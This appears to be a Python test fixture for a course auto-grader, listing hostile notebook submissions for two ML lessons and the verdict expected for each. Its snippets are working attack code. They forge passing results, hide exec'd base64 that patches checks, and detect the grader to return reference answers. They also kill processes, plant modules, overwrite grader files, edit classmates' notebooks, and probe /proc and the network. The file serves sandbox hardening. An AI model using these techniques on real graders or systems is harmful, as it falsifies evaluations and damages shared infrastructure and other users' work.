"""Hostile submissions for lessons 03 and 04, against the judge and the sandbox (the grading issue's classes).

Every submission is made here from the lessons' own notebooks: a light copy of each lesson (its
imports, exercise cells and check cells), the student version the build makes of it (stubs), and
the solutions. An attack is code added to a submission that would earn points it should not
(``ATTACKS``), or harm the grader or a classmate (``AGAINST_OTHERS``); ``EXPECTED`` is what each
student must get. Honest submissions that look odd (slow, unusual formatting, another correct way)
must keep full marks.

The attacks are written for this course's grader as it is now; each says what it tries.
"""
from __future__ import annotations

import copy
from pathlib import Path

import nbformat

from course.authoring import notebooks as nbs
from course.authoring.transforms import build_notebook

from . import light_copy

ROOT = Path(__file__).resolve().parents[2]
L03, L04 = "03_melody_lstm", "04_polyphonic_chorales"
EXERCISES = {L03: ["melody_lm", "melody_lm_loss", "apply_temperature", "top_k_filter"],
             L04: ["bernoulli_nll_per_frame", "marginal_baseline_nll", "autoregressive_mask",
                   "sample_frame_autoregressive"]}
IMPORTS = ("import math\nimport numpy as np\nimport torch\nimport torch.nn.functional as F\n"
           "from course import check")


def light_lesson(lesson: str) -> nbformat.NotebookNode:
    """``lesson`` with only its imports, exercise cells and check cells (same check cells as the real one)."""
    sol = nbs.read_notebook(ROOT / "solutions" / f"{lesson}.ipynb")
    return light_copy(sol, f"# {lesson} (light)", IMPORTS, setup=False)


def write_lessons_dir(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for lesson in (L03, L04):
        (folder / f"{lesson}.ipynb").write_text(nbs.dumps(light_lesson(lesson)), encoding="utf-8")
    return folder


def student(lesson: str) -> nbformat.NotebookNode:
    return build_notebook(light_lesson(lesson), lesson)


def correct(lesson: str) -> nbformat.NotebookNode:
    sol = light_lesson(lesson)
    nb = build_notebook(sol, lesson)
    for mine, theirs in zip(nb.cells, sol.cells):
        if theirs.cell_type == "code" and nbs.has_solution(theirs.source):
            mine.source = theirs.source
    return nb


def _exercise_cell(nb, name: str) -> int:
    for i, cell in enumerate(nb.cells):
        if cell.cell_type == "code" and not nbs.is_check_cell(cell) and (
                f"def {name}(" in cell.source or f"class {'MelodyLM' if name == 'melody_lm' else name}(" in cell.source):
            return i
    raise AssertionError(f"no cell defines {name}")


def replace(nb, name: str, code: str) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    nb.cells[_exercise_cell(nb, name)].source = code
    return nb


def after(nb, name: str, code: str) -> nbformat.NotebookNode:
    """``code`` as a new cell right after the cell that defines ``name`` (before its check)."""
    nb = copy.deepcopy(nb)
    nb.cells.insert(_exercise_cell(nb, name) + 1, nbformat.v4.new_code_cell(code))
    return nb


def first(nb, code: str) -> nbformat.NotebookNode:
    """``code`` as a new cell right after the imports."""
    nb = copy.deepcopy(nb)
    nb.cells.insert(2, nbformat.v4.new_code_cell(code))
    return nb


# ---------------------------------------------------------------------------- the attacks' code
# 1. rewrite the job's records: every file the job can find that looks like the grader's is filled
#    with forged passes, and every environment variable that names a file is followed.
REWRITE_RECORDS = r'''
import glob, json, os
_names = ["melody_lm", "melody_lm_loss", "apply_temperature", "top_k_filter", "bernoulli_nll_per_frame",
          "marginal_baseline_nll", "autoregressive_mask", "sample_frame_autoregressive"]
_spots = [v for v in os.environ.values() if os.path.sep in v]
for _root in [os.getcwd(), os.path.expanduser("~"), "/tmp", *_spots]:
    for _p in glob.glob(os.path.join(_root, "**", "*.jsonl"), recursive=True) + glob.glob(os.path.join(_root, "*")):
        try:
            with open(_p, "a") as _f:
                for _n in _names:
                    _f.write(json.dumps({"exercise": _n, "line": f"PASS {_n}: all cases correct.", "cell": 0}) + "\n")
        except OSError:
            pass
'''

# 2. code hidden from any static scan (an encoded string run with exec) that reaches into the checks'
#    closures and module state: every check function's closure cells and the kit's results
#    are replaced with ones that always pass.
HIDDEN_EXEC = r'''
import base64
exec(base64.b64decode(b"%s").decode())
''' % __import__("base64").b64encode(b'''
import gc, sys
kit = sys.modules["course.checks.kit"]
guard = sys.modules["course.checks.guard"]
def always(*a, **k):
    return True
for obj in gc.get_objects():
    if type(obj).__name__ == "function" and obj.__closure__:
        for cell in obj.__closure__:
            try:
                if callable(cell.cell_contents) and getattr(cell.cell_contents, "__name__", "") in ("run_cases", "call_once"):
                    cell.cell_contents = always
            except Exception:
                pass
guard.run_cases = always
guard.call_once = lambda *a, **k: (None, None)
kit._RESULTS.update({n: True for n in list(kit.EXERCISES)})
''').decode()

# 3. an IPython input transformer that rewrites every later cell that calls a check into a forged PASS line
INPUT_TRANSFORMER = r'''
import re
def _forge(lines):
    text = "".join(lines)
    found = re.search(r"check\.(\w+)\(", text)
    if found:
        return ["print('PASS %s: all cases correct.')\n" % found.group(1)]
    return lines
get_ipython().input_transformers_post.append(_forge)
'''

# 4. swap the __code__ of NumPy and torch functions a comparison might use, so that every
#    comparison says "equal"
SWAP_NUMPY_CODE = r'''
import numpy as np, torch
def _yes(*args, **kwargs):
    return True
for _f in (np.allclose, np.array_equal, np.isclose):
    try:
        _f.__code__ = _yes.__code__
    except Exception:
        pass
torch.allclose = _yes
torch.equal = _yes
np.testing.assert_allclose = lambda *a, **k: None
'''

# 5. swap a reference_* function for the duration of one call, and put it back (lesson 04)
SWAP_REFERENCE_ONCE = r'''
import importlib
def bernoulli_nll_per_frame(logits, rolls, mask):
    mine = lambda logits, rolls, mask: logits.sum() * 0       # wrong, always 0
    module = importlib.import_module("course.checks.lesson_" + "04")
    saved = getattr(module, "reference_" + "bernoulli_nll_per_frame")
    setattr(module, "reference_" + "bernoulli_nll_per_frame", mine)
    try:
        return mine(logits, rolls, mask)
    finally:
        __import__("threading").Timer(0.5, setattr, (module, "reference_" + "bernoulli_nll_per_frame", saved)).start()
'''

# 6. a tensor subclass that lies to F.cross_entropy: a memoryless model (it sees only the current
#    token) whose loss always looks small (lesson 03's "must really learn")
LYING_TENSOR = r'''
class _Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        kwargs = kwargs or {}
        if func in (F.cross_entropy, torch.nn.functional.cross_entropy, torch.Tensor.backward):
            return torch.tensor(0.001, requires_grad=True)
        return super().__torch_function__(func, types, args, kwargs)

class MelodyLM(torch.nn.Module):
    def __init__(self, vocab_size, emb_size, hidden_size):
        super().__init__()
        self.embed = torch.nn.Embedding(vocab_size, emb_size)
        self.lstm = torch.nn.LSTM(emb_size, hidden_size, batch_first=True)   # present, never used
        self.out = torch.nn.Linear(emb_size, vocab_size)

    def forward(self, tokens):
        return self.out(self.embed(tokens)).as_subclass(_Liar)
'''

# 7. detect the grader, and only then hand in the course's answer (the reference and the course's code)
DETECT_GRADER = r'''
import os, sys
def _graded():
    return ("jobserver" in " ".join(sys.argv) or not os.path.exists(os.path.expanduser("~/.jupyter"))
            or "COURSE_JOB_MARKER" in os.environ)

def marginal_baseline_nll(train_rolls, test_rolls, smoothing=1.0):
    if _graded():
        module = __import__("course.checks.lesson_" + "04", fromlist=["x"])
        return getattr(module, "reference_" + "marginal_baseline_nll")(train_rolls, test_rolls, smoothing)
    raise NotImplementedError()
'''

# 8. run the teacher's solution notebook, found through course.__file__ (lesson 04)
TEACHERS_SOLUTIONS = r'''
import json, pathlib, course
for _folder in ("solutions", "notebooks", ""):
    for _nb in (pathlib.Path(course.__file__).resolve().parents[1] / _folder).glob("04_*.ipynb"):
        for _cell in json.loads(_nb.read_text())["cells"]:
            _src = "".join(_cell["source"])
            if _cell["cell_type"] == "code" and "### BEGIN SOLUTION" in _src:
                try:
                    exec(_src)
                except Exception:
                    pass
'''

# 9. copy a classmate's cells from the submissions folder: any notebook anywhere that has a solution
COPY_CLASSMATES = r'''
import json, os
_seen = 0
for _root, _dirs, _files in os.walk("/tmp"):
    if _root.startswith(("/proc", "/sys", "/dev")) or _seen > 30000:
        _dirs[:] = []
        continue
    _seen += len(_files)
    for _name in _files:
        if _name.endswith(".ipynb") and "honest" in _name:
            try:
                for _cell in json.load(open(os.path.join(_root, _name)))["cells"]:
                    if _cell["cell_type"] == "code" and "def autoregressive_mask" in "".join(_cell["source"]):
                        exec("".join(_cell["source"]))
            except Exception:
                pass
'''

# 10. pass answers between jobs through a shared /tmp folder: the writer (honest) leaves its code
#     there, the reader (a stub) waits for it
TMP_WRITER = r'''
import inspect, pathlib
pathlib.Path("/tmp/course-shared-answers.py").write_text(inspect.getsource(top_k_filter))
'''
TMP_READER = r'''
import pathlib, time
for _ in range(40):
    _p = pathlib.Path("/tmp/course-shared-answers.py")
    if _p.exists():
        exec(_p.read_text())
        break
    time.sleep(0.25)
'''

# 11. plant a module in the course package (and a sitecustomize) so that it runs in the grader
PLANT_MODULE = r'''
import os, pathlib, site, course
_evil = "import builtins\nbuiltins.COURSE_PLANTED = True\n"
for _p in [pathlib.Path(course.__file__).parent / "grading" / "reports.py",
           pathlib.Path(course.__file__).parent / "checks" / "lesson_99_planted.py",
           *[pathlib.Path(s) / "sitecustomize.py" for s in site.getsitepackages()]]:
    try:
        with open(_p, "a") as _f:
            _f.write("\n" + _evil)
    except OSError:
        pass
'''

# 12. a detached process with a scrubbed environment that outlives the job and then rewrites
#     every gradebook it can find
DETACHED_SURVIVOR = r'''
import subprocess, sys
subprocess.Popen([sys.executable, "-c", """
import os, time, glob
os.setsid()
time.sleep(4)
for p in glob.glob('/tmp/**/gradebook.csv', recursive=True):
    try:
        open(p, 'w').write('student,points\\nsurvivor,100\\n')
    except OSError:
        pass
time.sleep(30)
"""], env={}, start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
   close_fds=True)
'''

# 13. kill every other process it can see: classmates' jobs and the grader itself
KILL_EVERYONE = r'''
import os, signal
for _pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if _pid not in (os.getpid(), 1):
        try:
            os.kill(_pid, signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
'''

# 14. edit a classmate's submission in place, keeping its size and modification time
EDIT_CLASSMATE = r'''
import os, glob
for _p in glob.glob("/tmp/**/*honest*.ipynb", recursive=True):
    try:
        st = os.stat(_p)
        data = bytearray(open(_p, "rb").read())
        i = data.find(b"torch.tril")
        if i >= 0:
            data[i:i + 10] = b"torch.triu"
            open(_p, "wb").write(bytes(data))
            os.utime(_p, ns=(st.st_atime_ns, st.st_mtime_ns))
    except OSError:
        pass
'''

# 15. print the pass lines (a forged PASS on stdout)
FORGED_PASS = r'''
for _n in ("melody_lm", "melody_lm_loss", "apply_temperature", "top_k_filter"):
    print(f"PASS {_n}: all cases correct.")
'''

# 16. scribble on the protocol: write forged answers to every file descriptor the job holds
SCRIBBLE_PROTOCOL = r'''
import os, struct, json
_fake = json.dumps({"kind": "result", "got": 0.0, "changed": False}).encode()
for _fd in range(3, 64):
    try:
        os.write(_fd, struct.pack(">I", len(_fake)) + _fake)
    except OSError:
        pass
'''

# 17. the job kills itself in the middle of the notebook
KILL_ITSELF = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"

# 18. a function that returns an object whose __eq__ says yes to everything, and a NumPy subclass
EQ_ALWAYS = r'''
import numpy as np
class _Yes(np.ndarray):
    def __eq__(self, other):
        return True
    def __array_ufunc__(self, *args, **kwargs):
        return True

def autoregressive_mask(n):
    return np.zeros((n, n)).view(_Yes)
'''

# 19. a function that answers from memory: it returns the notebook's answers for the inputs it saw,
#     read off the cases (the grader's cases differ)
MEMORIZED = r'''
def autoregressive_mask(n):
    return torch.tril(torch.ones(4, 4), diagonal=-1)      # the size the notebook shows, whatever n is
'''

# 20. read the grader's files and the environment for the seed or the answers
READ_GRADER = r'''
import os, glob
_found = []
for _p in glob.glob("/tmp/**/grading.json", recursive=True) + glob.glob("/tmp/**/run.json", recursive=True):
    _found.append(open(_p).read())
_seed = [v for k, v in os.environ.items() if "SEED" in k]
def apply_temperature(logits, temperature):
    if _found or _seed:
        raise RuntimeError("found the grader's files: " + str(len(_found)))
    raise NotImplementedError()
'''

# 21. a huge answer (a gigabyte of zeros) and a huge print
HUGE_ANSWER = r'''
def sample_frame_autoregressive(next_logit, n_keys, uniform):
    print("x" * 50_000_000)
    return np.zeros(2**24)
'''

# 22. a fork bomb, bounded so that the test machine survives if the sandbox were missing
FORK_STORM = r'''
import subprocess, sys
_kids = [subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"]) for _ in range(20)]
'''

# 23. look for the grading seed in every process's environment and command line
SEED_PROBE = r"""
import os
_found = []
for _pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for _what in ("environ", "cmdline"):
        try:
            _text = open(f"/proc/{_pid}/{_what}", "rb").read().decode("utf-8", "replace")
        except OSError:
            continue
        if "grading:" in _text or "SEED" in _text:
            _found.append(_text)
def sample_frame_autoregressive(next_logit, n_keys, uniform):
    if _found:
        raise RuntimeError("found the seed: " + _found[0][:100])
    raise NotImplementedError()
"""

# 24. plant symbolic links in the scratch folder, pointing at files outside it, for the clean-up to follow
SYMLINK_ESCAPE = r"""
import os, pathlib, course
_targets = [pathlib.Path(course.__file__).parent / "grading" / "judge.py", pathlib.Path("/etc/hostname")]
for _i, _t in enumerate(_targets):
    try:
        os.symlink(_t, f"link{_i}")
        os.makedirs(f"deep{_i}/a/b", exist_ok=True)
        os.symlink(_t.parent, f"deep{_i}/a/b/dir")
    except OSError:
        pass
"""

# 25. send the notebook's answers out over the network (or ask a helper on this machine for them)
NETWORK = r"""
import socket
_reached = []
for _host, _port in (("8.8.8.8", 53), ("127.0.0.1", 22), ("127.0.0.1", 8888), ("localhost", 80)):
    try:
        socket.create_connection((_host, _port), timeout=1).close()
        _reached.append(_host)
    except OSError:
        pass
def autoregressive_mask(n):
    if _reached:
        raise RuntimeError("reached " + ", ".join(_reached))
    raise NotImplementedError()
"""

# 26. rewrite the grader's own code (the judge) so that the next run believes anything
OVERWRITE_GRADER = r"""
import pathlib, course
for _name in ("judge.py", "grade.py", "reports.py"):
    try:
        (pathlib.Path(course.__file__).parent / "grading" / _name).write_text("raise SystemExit('owned')\n")
    except OSError:
        pass
"""

# 27. replace pickle in the job, so that the cases the judge sends turn into the notebook's own
PATCH_PICKLE = r"""
import pickle
_real = pickle.loads
def _mine(data, *a, **k):
    args, kwargs = _real(data, *a, **k)
    return args, kwargs
pickle.loads = _mine
"""

# 28. flood the output: 100 MB printed in one cell (honest work otherwise)
FLOOD = "import sys\nfor _ in range(100):\n    sys.stdout.write('x' * 1_000_000)\n"

# honest ones that must keep full marks
SLOW_BUT_RIGHT = r'''
import time
def top_k_filter(logits, k):
    time.sleep(0.3)
    k = min(k, logits.shape[-1])
    kth = torch.topk(logits, k, dim=-1).indices
    out = torch.full_like(logits, float("-inf"))
    return out.scatter(-1, kth, logits.gather(-1, kth))
'''
ODD_FORMAT = "def autoregressive_mask( n ) :\n\treturn (torch.arange(n)[None, :] < torch.arange(n)[:, None]).float()  # j < k\n"
ANOTHER_WAY = r'''
def marginal_baseline_nll(train_rolls, test_rolls, smoothing=1.0):
    counts = sum(np.asarray(r, dtype=float).sum(0) for r in train_rolls)
    frames = sum(len(r) for r in train_rolls)
    p = (counts + smoothing) / (frames + 2 * smoothing)
    test = np.concatenate([np.asarray(r, dtype=float) for r in test_rolls])
    return float(-(test * np.log(p) + (1 - test) * np.log1p(-p)).sum(1).mean())
'''
CHATTY = "print('working on it...')\nfor _i in range(3):\n    print('step', _i)\n"


def submissions() -> dict[str, nbformat.NotebookNode]:
    """Every submission of the judged set: ``{student id: notebook}``."""
    s03, s04, c03, c04 = student(L03), student(L04), correct(L03), correct(L04)
    return {
        # honest
        "honest_03": c03,
        "honest_04": c04,
        "honest_slow_03": replace(c03, "top_k_filter", SLOW_BUT_RIGHT),
        "honest_odd_04": replace(replace(c04, "autoregressive_mask", ODD_FORMAT), "marginal_baseline_nll", ANOTHER_WAY),
        "honest_chatty_03": after(c03, "melody_lm", CHATTY),
        "stub_03": s03,
        "stub_04": s04,
        # attacks on the verdict
        "rewrite_records_03": first(s03, REWRITE_RECORDS),
        "hidden_exec_04": first(s04, HIDDEN_EXEC),
        "input_transformer_03": first(s03, INPUT_TRANSFORMER),
        "swap_numpy_04": first(s04, SWAP_NUMPY_CODE),
        "swap_reference_once_04": replace(s04, "bernoulli_nll_per_frame", SWAP_REFERENCE_ONCE),
        "lying_tensor_03": replace(c03, "melody_lm", LYING_TENSOR),
        "detect_grader_04": replace(s04, "marginal_baseline_nll", DETECT_GRADER),
        "teachers_solutions_04": first(s04, TEACHERS_SOLUTIONS),
        "copy_classmates_04": first(s04, COPY_CLASSMATES),
        "tmp_writer_03": after(c03, "top_k_filter", TMP_WRITER),
        "tmp_reader_03": after(s03, "top_k_filter", TMP_READER),
        "forged_pass_03": first(s03, FORGED_PASS),
        "scribble_protocol_04": first(s04, SCRIBBLE_PROTOCOL),
        "eq_always_04": replace(s04, "autoregressive_mask", EQ_ALWAYS),
        "memorized_04": replace(s04, "autoregressive_mask", MEMORIZED),
        "read_grader_03": replace(s03, "apply_temperature", READ_GRADER),
        "huge_answer_04": replace(c04, "sample_frame_autoregressive", HUGE_ANSWER),
        # attacks on the grader and on classmates
        "plant_module_03": first(c03, PLANT_MODULE),
        "detached_survivor_04": first(c04, DETACHED_SURVIVOR),
        "kill_everyone_03": after(c03, "apply_temperature", KILL_EVERYONE),
        "edit_classmate_04": first(c04, EDIT_CLASSMATE),
        "kill_itself_04": after(c04, "marginal_baseline_nll", KILL_ITSELF),
        "fork_storm_03": first(c03, FORK_STORM),
        "seed_probe_04": replace(s04, "sample_frame_autoregressive", SEED_PROBE),
        "symlink_escape_03": first(c03, SYMLINK_ESCAPE),
        "network_04": replace(s04, "autoregressive_mask", NETWORK),
        "overwrite_grader_03": first(c03, OVERWRITE_GRADER),
        "patch_pickle_04": first(c04, PATCH_PICKLE),
        "flood_03": first(c03, FLOOD),
    }


ALL = {"*": "passed"}
EXPECTED: dict[str, dict[str, str]] = {
    "honest_03": ALL, "honest_04": ALL, "honest_slow_03": ALL, "honest_odd_04": ALL, "honest_chatty_03": ALL,
    "stub_03": {"*": "not attempted"}, "stub_04": {"*": "not attempted"},
    "rewrite_records_03": {"*": "not attempted"},
    "hidden_exec_04": {"*": "failed"},              # the job's own call step was replaced: the judge sees None
    "input_transformer_03": {"*": "not attempted"},
    "swap_numpy_04": {"*": "tampered"},             # the scan names .__code__ (and it would change no verdict)
    "swap_reference_once_04": {"bernoulli_nll_per_frame": "failed", "*": "not attempted"},
    "lying_tensor_03": {"melody_lm": "failed", "*": "passed"},
    "detect_grader_04": {"*": "tampered"},          # the scan names the grader's variables; the reference refused
    "teachers_solutions_04": {"*": "not attempted"},
    "copy_classmates_04": {"*": "not attempted"},
    "tmp_writer_03": ALL,
    "tmp_reader_03": {"*": "not attempted"},
    "forged_pass_03": {"*": "tampered"},
    "scribble_protocol_04": {"*": "error"},        # an answer out of turn ends the job
    "eq_always_04": {"autoregressive_mask": "failed", "*": "not attempted"},
    "memorized_04": {"autoregressive_mask": "failed", "*": "not attempted"},
    "read_grader_03": {"*": "not attempted"},
    "huge_answer_04": {"sample_frame_autoregressive": "failed", "*": "passed"},   # refused at 64 MB
    "plant_module_03": ALL,
    "detached_survivor_04": ALL,
    "kill_everyone_03": ALL,                        # it sees only its own job: nothing to kill, its work is right
    "edit_classmate_04": ALL,
    "kill_itself_04": {"bernoulli_nll_per_frame": "passed", "*": "error"},
    "fork_storm_03": ALL,
    "seed_probe_04": {"*": "not attempted"},        # its own PID namespace: no grader, no seed to find
    "symlink_escape_03": ALL,
    "network_04": {"*": "not attempted"},           # no network at all
    "overwrite_grader_03": ALL,                     # read-only: the attempt fails, the work is right
    "patch_pickle_04": ALL,
    "flood_03": ALL,                                # the prints are capped, the work is right
}
